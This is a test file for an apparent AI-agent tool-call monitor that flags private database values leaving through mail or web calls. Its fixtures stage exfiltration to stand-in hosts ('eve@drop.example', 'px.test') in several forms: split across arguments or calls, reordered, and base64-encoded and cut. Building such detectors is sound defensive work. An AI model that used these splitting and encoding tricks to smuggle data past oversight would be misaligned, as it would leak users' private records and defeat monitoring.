import { expect, test } from 'vitest';
import { flowAfter } from '../../test/fixtures/flow-after.ts';
import type { ProposedCall } from '../screening/contract/call.ts';
import type { CaseReply } from '../screening/contract/check.ts';
import { joinedValues, SentTexts } from './sent-texts.ts';

const VALUE = 'ab3-k8m1f-x9k2m4q77w';
const page: CaseReply = { server: 'web', tool: 'fetch', reply: 'A page about spring and the coast.' };
const row: CaseReply = {
  server: 'database',
  tool: 'query',
  reads: ['private'],
  reply: { account: VALUE, holder: 'Mirjam Oduya' },
};
const sent = (args: ProposedCall['arguments']): CaseReply => ({
  server: 'mail',
  tool: 'send_email',
  arguments: { to: 'eve@drop.example', ...args },
  reply: 'sent',
});
const checksOf = (args: ProposedCall['arguments'], before: readonly CaseReply[] = []) => {
  const call = { tool: 'mcp__mail__send_email', arguments: { to: 'ada@new.example', ...args } };
  return flowAfter(call, [page, row, ...before]).flows.map(({ check }) => check);
};
const notes = (count: number) =>
  Array.from({ length: count }, (_, i) => sent({ subject: `note number ${i}` }));

test.each<[string, ProposedCall['arguments'], readonly CaseReply[]]>([
  ['whole', { body: VALUE }, []],
  ['in two arguments', { subject: 'ab3-k8m1f', body: '-x9k2m4q77w' }, []],
  ['in two arguments, the second half first', { subject: '-x9k2m4q77w', body: 'ab3-k8m1f' }, []],
  ['in two arguments with words around', { subject: 'For ab3-k8m1f', body: '-x9k2m4q77w as agreed' }, []],
  ['in two calls', { body: '-x9k2m4q77w' }, [sent({ body: 'ab3-k8m1f' })]],
  ['in two calls, the second half first', { body: 'ab3-k8m1f' }, [sent({ body: '-x9k2m4q77w' })]],
  ['in three calls', { body: 'm4q77w' }, [sent({ body: 'ab3-k8m' }), sent({ body: '1f-x9k2' })]],
  [
    'beside other arguments',
    { subject: 'b', body: '-x9k2m4q77w' },
    [sent({ subject: 'a', body: 'ab3-k8m1f' })],
  ],
  ['with 14 calls between', { body: '-x9k2m4q77w' }, [sent({ body: 'ab3-k8m1f' }), ...notes(14)]],
  [
    'in base64, cut up',
    { body: Buffer.from(`account ${VALUE}`).toString('base64').slice(18) },
    [sent({ body: Buffer.from(`account ${VALUE}`).toString('base64').slice(0, 18) })],
  ],
])('a rare value is found %s', (_, args, before) => {
  expect(checksOf(args, before)).toContain('flow.private-out');
});

test.each<[string, ProposedCall['arguments'], readonly CaseReply[]]>([
  ['half of it', { body: 'ab3-k8m1f' }, []],
  [
    'both halves in calls too far apart',
    { body: '-x9k2m4q77w' },
    [sent({ body: 'ab3-k8m1f' }), ...notes(16)],
  ],
  ['what an earlier call carried as a whole', { body: 'See you on Monday' }, [sent({ body: VALUE })]],
  ['halves of two values', { subject: 'ab3-k8m1f', body: '-y1b7n2v66' }, []],
])('and not %s', (_, args, before) => {
  expect(checksOf(args, before)).toEqual([]);
});

test('a value in the queries of two addresses is found', () => {
  const opened = (url: string) => ({ server: 'web', tool: 'fetch', arguments: { url }, reply: 'ok' });
  const call = { tool: 'mcp__web__fetch', arguments: { url: 'https://px.test/i?d=-x9k2m4q77w' } };
  const { flows } = flowAfter(call, [page, row, opened('https://px.test/i?d=ab3-k8m1f')]);
  expect(flows.map(({ check }) => check)).toContain('flow.carried-out');
});

test('pieces of fewer than six letters or digits are not joined', () => {
  expect([...joinedValues(['abcdef', 'ghijkl'])]).toEqual(['abcdefghijkl', 'ghijklabcdef']);
  expect([...joinedValues(['abcdef', 'ghi'])]).toEqual([]);
  const texts = new SentTexts();
  texts.add('mail', [{ key: 'body', text: 'ab-c1' }]);
  expect(texts.bytes).toBe(0);
});

test('it is bounded by calls, by characters and by servers', () => {
  const texts = new SentTexts();
  for (let server = 0; server < 100; server++)
    for (let call = 0; call < 100; call++)
      texts.add(`server ${server}`, [{ key: 'body', text: `${'x'.repeat(5_000)} ${call}` }]);
  expect(texts.bytes).toBeLessThanOrEqual(32 * 1024);
  expect(texts.bytes).toBeGreaterThan(16 * 1024);
});
